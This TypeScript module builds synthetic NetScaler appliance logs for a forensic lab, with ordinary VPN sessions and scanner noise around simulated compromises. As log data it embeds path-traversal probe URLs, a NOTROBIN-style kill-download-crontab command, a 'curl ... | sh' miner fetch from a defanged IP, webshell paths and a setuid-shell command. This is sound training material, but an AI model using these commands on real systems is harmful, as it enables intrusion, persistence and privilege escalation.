/**
 * The logs of a lab collection (DOMAIN §4.3–§4.5, §4.9): Apache access and error logs with
 * newsyslog rotation (`httpaccess.log`, `httpaccess.log.0.gz` … about 100 KB each), ns.log SSLVPN
 * events, bash.log / notice.log shell commands and the cron log. Ordinary traffic fills the window
 * around the scenario's events; a rotation cut never falls inside an attack burst.
 */
import { gzipSync } from 'node:zlib';
import { prng } from '../rand.js';
import { accessLine, DAY_S, errorTime, HOUR_S, nsTime, syslogTime } from './fmt.js';
import { buildAt, type Scenario, vpnsAnswerAt } from './scenario.js';

/** One log file as written (gzip for rotations) and as read (plain text). */
export interface LogFile {
  path: string;
  text: string;
  data: Buffer;
  mtime: number;
}

interface Line {
  t: number;
  text: string;
}

const ROTATE_BYTES = 100 * 1024;
const USERS = [
  'alice',
  'bob',
  'carol',
  'dave',
  'erin',
  'frank',
  'grace',
  'heidi',
  'ivan',
  'judy',
  'mallory',
  'oscar',
  'peggy',
  'trent',
  'victor',
  'walter',
];
const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.117 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:72.0) Gecko/20100101 Firefox/72.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0.4 Safari/605.1.15',
  'CitrixReceiver/19.12.0.23 Windows/10.0 Receiver SelfService/19.12.0.23 (Release)',
  'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)',
];
const SCANNER_UA = ['Mozilla/5.0 zgrab/0.x', 'python-requests/2.22.0', 'curl/7.58.0', 'Mozilla/5.0 (compatible; CensysInspect/1.1)'];
const EXPLOIT_UA = 'python-requests/2.22.0';

/** gzip with a fixed header (mtime 0, OS unix) so output is byte-stable. */
export function gz(text: string): Buffer {
  const b = gzipSync(Buffer.from(text));
  b[9] = 3;
  return b;
}

/** Window [start, end] of the logs. */
export function logWindow(s: Scenario): [number, number] {
  return [s.collectedAt - s.logSpan, s.collectedAt];
}

/** Split lines (ascending) into newest-first rotation files of ~100 KB, never cutting inside `protect`. */
function rotate(base: string, lines: Line[], maxRotations: number, protect: ReadonlyArray<readonly [number, number]>): LogFile[] {
  const files: Line[][] = [[]];
  let size = 0;
  for (let k = lines.length - 1; k >= 0; k--) {
    const l = lines[k] as Line;
    const cur = files[files.length - 1] as Line[];
    if (size >= ROTATE_BYTES && files.length <= maxRotations && cur.length > 0) {
      const newer = cur[cur.length - 1] as Line;
      const inside = protect.some(([a, b]) => l.t >= a && newer.t <= b);
      if (!inside) {
        files.push([]);
        size = 0;
      }
    }
    (files[files.length - 1] as Line[]).push(l);
    size += l.text.length + 1;
  }
  return files.map((rev, i) => {
    const asc = rev.reverse();
    const text = asc.length ? `${asc.map((l) => l.text).join('\n')}\n` : '';
    const path = i === 0 ? base : `${base}.${i - 1}.gz`;
    const mtime = asc.length ? (asc[asc.length - 1] as Line).t : 0;
    return { path, text, data: i === 0 ? Buffer.from(text) : gz(text), mtime };
  });
}

function sortLines(lines: Line[]): Line[] {
  // Stable: equal times keep insertion order.
  return lines
    .map((l, i) => [l, i] as const)
    .sort((a, b) => a[0].t - b[0].t || a[1] - b[1])
    .map(([l]) => l);
}

/** All generated logs of a scenario, plus the event lines' times (for tests). */
export interface Logs {
  files: LogFile[];
  /** [start, end] of the attack bursts kept together in one access-log file. */
  bursts: Array<[number, number]>;
}

interface Ctx {
  s: Scenario;
  r: () => number;
  start: number;
  end: number;
  access: Line[];
  error: Line[];
  ns: Line[];
  bash: Line[];
  notice: Line[];
  cron: Line[];
  bursts: Array<[number, number]>;
}

const inWin = (c: Ctx, t: number) => t >= c.start && t <= c.end;

function userIp(r: () => number): string {
  return `203.0.113.${1 + Math.floor(r() * 60)}`;
}

function vhashOf(c: Ctx, t: number): string {
  const b = buildAt(c.s, t);
  return b.vhash ? `?v=${b.vhash}` : '';
}

/** One user's visit: landing page, static files, login, Receiver/clientless traffic, ns.log events. */
function session(c: Ctx, t: number, sid: number): void {
  const { r } = c;
  const ip = userIp(r);
  const ua = BROWSERS[Math.floor(r() * BROWSERS.length)] as string;
  const user = USERS[Math.floor(r() * USERS.length)] as string;
  const v = vhashOf(c, t);
  const host = `https://${c.s.hostname}.example.org`;
  const a = (dt: number, m: string, p: string, st: number, size: number | null, ref = '-') =>
    c.access.push({ t: t + dt, text: accessLine(ip, t + dt, m, p, st, size, ref, ua) });
  const receiver = ua.startsWith('CitrixReceiver');
  if (receiver) {
    a(0, 'GET', '/vpns/services.html', 200, 1405);
    a(1, 'POST', '/cgi/login', 302, 0);
    a(2, 'GET', '/vpns/services.html', 200, 1405);
  } else {
    if (r() < 0.4) a(0, 'GET', '/', 302, 207);
    a(1, 'GET', '/vpn/index.html', 200, 3612);
    for (const f of [
      '/vpn/js/rdx/core/css/rdx.css',
      '/vpn/themes/default/css/base.css',
      '/vpn/resources.js',
      '/vpn/login.js',
      '/vpn/js/rdx.js',
    ]) {
      const cached = r() < 0.5;
      a(2, 'GET', `${f}${v}`, cached ? 304 : 200, cached ? null : 2000 + Math.floor(r() * 30000), `${host}/vpn/index.html`);
    }
    a(2, 'GET', '/vpn/js/rdx/core/lang/rdx_en.json.gz', 200, 1233, `${host}/vpn/index.html`);
    a(3, 'GET', '/vpn/images/AccessGateway.ico', 200, 22, `${host}/vpn/index.html`);
    a(15 + Math.floor(r() * 20), 'POST', '/cgi/login', 302, 0, `${host}/vpn/index.html`);
    a(40, 'GET', '/cgi/setclient?wica', 200, 120, `${host}/vpn/index.html`);
    if (r() < 0.3) a(41, 'GET', '/vpn/pluginlist.xml', 200, 880);
    if (r() < 0.2) a(42, 'GET', '/epa/epa.html', 200, 402);
    if (r() < 0.3) a(43, 'GET', '/logon/LogonPoint/index.html', 200, 1590);
  }
  const login = t + 20;
  const ctx = `Context ${user}@${ip} - SessionId: ${sid} - User ${user} - Client_ip ${ip} - Nat_ip "Mapped Ip" - Vserver ${c.s.ip}:443`;
  const ns = (dt: number, ev: string, rest: string) =>
    c.ns.push({
      t: login + dt,
      text: `${syslogTime(login + dt)} <local0.info> 10.0.0.10 ${nsTime(login + dt)} ${c.s.hostname} 0-PPE-0 : default SSLVPN ${ev} ${1000 + sid} 0 : ${ctx}${rest}`,
    });
  ns(0, 'LOGIN', ` - Browser_type "${ua.slice(0, 40)}" - SSLVPN_client_type ICA - Group(s) "Staff"`);
  ns(
    25,
    'ICASTART',
    ` - Destination 10.0.1.${20 + (sid % 30)}:2598 - customername  - username:domainname ${user}:EXAMPLE - applicationName Desktop`,
  );
  const dur = 600 + Math.floor(r() * 3 * HOUR_S);
  ns(
    dur,
    'LOGOUT',
    ` - Start_time "${nsTime(login)}" - End_time "${nsTime(login + dur)}" - Duration 00:${String(Math.floor(dur / 60) % 60).padStart(2, '0')}:00 - Http_resources_accessed 12 - Total_TCP_connections 4 - Total_policies_allowed 4 - LogoutMethod "Explicit"`,
  );
  if (!receiver && r() < 0.3)
    c.access.push({ t: t + dur, text: accessLine(ip, t + dur, 'GET', '/cgi/logout', 302, 0, `${host}/vpn/index.html`, ua) });
}

/** Background noise: robots, favicons, TLS scanners asking for `/`. */
function noise(c: Ctx, t: number): void {
  const { r } = c;
  const ip = `198.51.100.${1 + Math.floor(r() * 250)}`;
  const x = r();
  const ua = SCANNER_UA[Math.floor(r() * SCANNER_UA.length)] as string;
  let path = '/robots.txt';
  if (x < 0.3) path = '/favicon.ico';
  else if (x < 0.5) path = '/.well-known/security.txt';
  else if (x < 0.8) {
    c.access.push({ t, text: accessLine(ip, t, 'GET', '/', 302, 207, '-', ua) });
    return;
  }
  c.access.push({ t, text: accessLine(ip, t, 'GET', path, 404, 209 + path.length, '-', ua) });
  c.error.push({ t, text: `[${errorTime(t)}] [error] [client ${ip}] File does not exist: /netscaler/ns_gui${path}` });
}

function fillTraffic(c: Ctx): void {
  const { s, r } = c;
  const span = c.end - c.start;
  if (s.traffic === 'fresh') {
    const admin = '10.0.0.50';
    for (let k = 0; k < 12; k++) {
      const t = c.start + Math.floor(((k + 1) * span) / 14);
      c.access.push({ t, text: accessLine(admin, t, 'GET', '/vpn/index.html', 200, 3612, '-', BROWSERS[0] as string) });
      c.access.push({
        t: t + 1,
        text: accessLine(admin, t + 1, 'GET', `/vpn/js/rdx.js${vhashOf(c, t)}`, 200, 24181, '-', BROWSERS[0] as string),
      });
    }
    return;
  }
  // Enough sessions to fill the current file and the kept rotations (~2.2 KB of access log per session).
  const target = (s.rotations + 0.7) * ROTATE_BYTES;
  const sessions = Math.max(20, Math.round(target / 2250));
  for (let k = 0; k < sessions; k++) session(c, c.start + Math.floor(r() * span), 100 + k);
  const n = Math.round(sessions / 4);
  for (let k = 0; k < n; k++) noise(c, c.start + Math.floor(r() * span));
}

function probeAnswer(c: Ctx, t: number): [number, number | null] {
  const a = vpnsAnswerAt(c.s, t);
  if (a === 'vulnerable') return [200, 83];
  if (a === 'responder') return [403, null];
  switch (c.s.patchedStyle) {
    case 'redirect':
      return [302, 229];
    case 'notfound':
      return [404, 229];
    default:
      return [403, 131];
  }
}

function probes(c: Ctx): void {
  const { s, r } = c;
  for (const p of s.probes) {
    if (!inWin(c, p.at)) continue;
    let t = p.at;
    for (let k = 0; k < p.n; k++) {
      const ip = `198.51.100.${1 + Math.floor(r() * 250)}`;
      const ua = SCANNER_UA[Math.floor(r() * SCANNER_UA.length)] as string;
      const target = p.encoded && k === p.n - 1 ? '/vpn/../v%70ns/cfg/smb.conf' : '/vpn/../vpns/cfg/smb.conf';
      const [st, size] = probeAnswer(c, t);
      c.access.push({ t, text: accessLine(ip, t, 'GET', target, st, size, '-', ua) });
      t += 60 + Math.floor(r() * 600);
    }
    c.bursts.push([p.at, t]);
  }
}

function errRaw(c: Ctx, t: number, text: string): void {
  if (inWin(c, t)) c.error.push({ t, text });
}

const CURL_PROGRESS = [
  '  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current',
  '                                 Dload  Upload   Total   Spent    Left  Speed',
];

function shellCmd(c: Ctx, list: Line[], t: number, who: string, cmd: string): void {
  if (!inWin(c, t)) return;
  const pid = 40000 + Math.floor(c.r() * 20000);
  list.push({ t, text: `${syslogTime(t)} <local7.notice> ${c.s.hostname} bash[${pid}]: ${who} shell_command="${cmd}"` });
}

function exploitation(c: Ctx): void {
  const { s, r } = c;
  const comp = s.compromise;
  if (!comp) return;
  const p = comp.plan;
  const at = comp.at;
  const att = comp.attacker;
  const acc = (t: number, m: string, path: string, st: number, size: number | null, ua = EXPLOIT_UA, ip = att) => {
    if (inWin(c, t)) c.access.push({ t, text: accessLine(ip, t, m, path, st, size, '-', ua) });
  };
  let last = at;
  if (p.kind === 'template' || p.kind === 'miner' || p.kind === 'webshell-2020') {
    acc(at - 30, 'GET', '/vpn/../vpns/cfg/smb.conf', 200, 83);
    acc(at, 'POST', '/vpn/../vpns/portal/scripts/newbm.pl', 200, 143);
    acc(at + 3, 'GET', `/vpn/../vpns/portal/${p.template}.xml`, 200, 780);
    last = at + 3;
  } else if (p.kind === 'notrobin') {
    acc(at, 'POST', '/vpn/../vpns/portal/scripts/newbm.pl', 304, null, '-');
    const url = `${'hxxps://95.179.163.186/wp-content/uploads/2018/09/'}${p.key}`;
    shellCmd(
      c,
      c.notice,
      at + 1,
      '(null) on (null)',
      `pkill -9 netscalerd; rm /var/tmp/netscalerd; mkdir /tmp/.init; curl -k ${url} -o /tmp/.init/httpd; chmod 744 /tmp/.init/httpd; echo '* * * * * /var/nstmp/.nscache/httpd' | crontab -u nobody -; /tmp/.init/httpd &`,
    );
    errRaw(c, at + 1, 'rm: /var/tmp/netscalerd: No such file or directory');
    errRaw(c, at + 2, CURL_PROGRESS[0] as string);
    errRaw(c, at + 2, CURL_PROGRESS[1] as string);
    errRaw(c, at + 3, '100  1418k  100  1418k    0     0   912k      0  0:00:01  0:00:01 --:--:--  912k');
    if (comp.failedAttemptsAt !== null) {
      let t = comp.failedAttemptsAt;
      for (let k = 0; k < 2; k++) {
        const ip = `192.0.2.${1 + Math.floor(r() * 250)}`;
        const name = Array.from({ length: 6 }, () => String.fromCharCode(97 + Math.floor(r() * 26))).join('');
        acc(t, 'POST', '/vpn/../vpns/portal/scripts/newbm.pl', 200, 143, EXPLOIT_UA, ip);
        acc(t + 2, 'GET', `/vpn/../vpns/portal/${name}.xml`, 404, 241, EXPLOIT_UA, ip);
        last = t + 2;
        t += 1200 + Math.floor(r() * 3000);
      }
    }
  }
  if (p.kind === 'miner') {
    shellCmd(c, c.notice, at + 2, '(null) on (null)', 'curl -s hxxp://185.178.45.221/ci.sh | sh');
    errRaw(c, at + 3, CURL_PROGRESS[0] as string);
    errRaw(c, at + 3, CURL_PROGRESS[1] as string);
    errRaw(c, at + 4, '100   612  100   612    0     0   2049      0 --:--:-- --:--:-- --:--:--  2053');
    errRaw(c, at + 9, 'sh: netscalerd: not found');
  }
  c.bursts.push([at - 30, last]);
  for (const u of comp.shellUsesAt) {
    c.bursts.push([u, u + 20]);
    for (const name of p.shells) {
      if (p.kind === 'webshell-2020') {
        acc(u, 'GET', `/vpn/themes/imgs/${name}`, 200, 312);
        acc(u + 20, 'POST', `/vpn/themes/imgs/${name}`, 200, 57);
      } else if (p.kind === 'webshell-2023-v1') acc(u, 'POST', `/logon/LogonPoint/uiareas/${name}`, 201, null);
      else if (p.kind === 'webshell-2023-v2') acc(u, 'POST', `/epa/scripts/win/${name}`, 404, null);
    }
  }
  if (p.kind === 'webshell-2023-v2') shellCmd(c, c.notice, at + 30, '(null) on (null)', 'cp /bin/sh /var/nss; chmod u+s /var/nss');
}

/** Attack bursts closer than 6 h are kept in one access-log file (merged protected intervals). */
function mergeBursts(bursts: ReadonlyArray<readonly [number, number]>): Array<[number, number]> {
  const sorted = [...bursts].sort((a, b) => a[0] - b[0]);
  const out: Array<[number, number]> = [];
  for (const [a, b] of sorted) {
    const last = out[out.length - 1];
    if (last && a - last[1] < 6 * HOUR_S) last[1] = Math.max(last[1], b);
    else out.push([a, b]);
  }
  return out;
}

function adminShell(c: Ctx): void {
  const { s, r } = c;
  const cmds = [
    'ls -la /var/log',
    'tail -n 50 /var/log/ns.log',
    'df -h',
    'uptime',
    'top -b -d 1',
    'ls -la /var/nsinstall',
    'cat /flash/boot/loader.conf',
  ];
  const pid = () => 2000 + Math.floor(r() * 30000);
  const who = 'nsroot on /dev/pts/0';
  for (const i of s.installs) {
    const t = i.at - 600;
    if (!inWin(c, t)) continue;
    const v = i.build.version;
    for (const [k, cmd] of [`cd /var/nsinstall/${v}_nc`, `tar -xzvf build-${v}_nc_64.tgz`, './installns'].entries()) {
      c.bash.push({
        t: t + k * 40,
        text: `${syslogTime(t + k * 40)} <local7.notice> ${s.hostname} bash[${pid()}]: ${who} shell_command="${cmd}"`,
      });
    }
  }
  if (!s.admin) return;
  const n = 6 + Math.floor(r() * 10);
  for (let k = 0; k < n; k++) {
    const t = c.start + Math.floor(r() * (c.end - c.start));
    c.bash.push({
      t,
      text: `${syslogTime(t)} <local7.notice> ${s.hostname} bash[${pid()}]: ${who} shell_command="${cmds[Math.floor(r() * cmds.length)]}"`,
    });
  }
}

function cronLog(c: Ctx, nobodyCmd: string | null, nobodyEvery: number, nobodySince: number): void {
  const { s, r } = c;
  const start = Math.max(c.start, c.end - DAY_S / 2);
  const first = Math.ceil(start / 300) * 300;
  const pid = () => 3000 + Math.floor(r() * 60000);
  for (let t = first; t <= c.end; t += 60) {
    const min = Math.floor(t / 60) % 60;
    const ln = (who: string, cmd: string) =>
      c.cron.push({ t, text: `${syslogTime(t)} ${s.hostname} /usr/sbin/cron[${pid()}]: (${who}) CMD (${cmd})` });
    if (min % 5 === 0) ln('root', '/usr/libexec/atrun');
    if (min === 0) ln('root', '/usr/sbin/newsyslog');
    if (min % 10 === 0) ln('root', '/netscaler/nsfsyncd -p');
    if (nobodyCmd && t >= nobodySince && min % nobodyEvery === 0) ln('nobody', nobodyCmd);
  }
}

/** The nobody crontab a kind installs, or null. */
export function nobodyCrontab(s: Scenario): { line: string; cmd: string; every: number } | null {
  const k = s.compromise?.plan.kind;
  if (k === 'notrobin') return { line: '* * * * * /var/nstmp/.nscache/httpd', cmd: '/var/nstmp/.nscache/httpd', every: 1 };
  if (k === 'miner') {
    const cmd = 'curl -s hxxp://185.178.45.221/ci.sh | sh > /dev/null 2>&1';
    return { line: `*/10 * * * * ${cmd}`, cmd, every: 10 };
  }
  return null;
}

function bootNotices(c: Ctx): void {
  for (const i of c.s.installs) {
    const t = i.at + 120;
    errRaw(c, t, `[${errorTime(t)}] [notice] Apache/2.2.34 (Unix) mod_ssl/2.2.34 OpenSSL/1.0.2r configured -- resuming normal operations`);
    if (inWin(c, t))
      c.notice.push({ t, text: `${syslogTime(t)} <local7.notice> ${c.s.hostname} kernel: NetScaler ${i.build.version} booted` });
  }
}

/** Generate every log file of a scenario. */
export function buildLogs(s: Scenario): Logs {
  const [start, end] = logWindow(s);
  const c: Ctx = { s, r: prng(s.seed ^ 0x51ed), start, end, access: [], error: [], ns: [], bash: [], notice: [], cron: [], bursts: [] };
  fillTraffic(c);
  probes(c);
  exploitation(c);
  adminShell(c);
  bootNotices(c);
  const nc = nobodyCrontab(s);
  cronLog(c, nc && s.compromise ? nc.cmd : null, nc?.every ?? 1, (s.compromise?.at ?? 0) + 60);
  const within = (ls: Line[]) => sortLines(ls.filter((l) => l.t >= start && l.t <= end));
  const files: LogFile[] = [];
  const bursts = mergeBursts(c.bursts);
  files.push(...rotate('/var/log/httpaccess.log', within(c.access), s.rotations, bursts));
  files.push(...rotate('/var/log/httperror.log', within(c.error), 1, bursts));
  const single = (path: string, ls: Line[]) => {
    const asc = within(ls);
    const text = asc.length ? `${asc.map((l) => l.text).join('\n')}\n` : '';
    files.push({ path, text, data: Buffer.from(text), mtime: asc.length ? (asc[asc.length - 1] as Line).t : start });
  };
  files.push(...rotate('/var/log/ns.log', within(c.ns), s.rotations, []));
  single('/var/log/bash.log', c.bash);
  single('/var/log/notice.log', c.notice);
  single('/var/log/cron', c.cron);
  return { files, bursts };
}
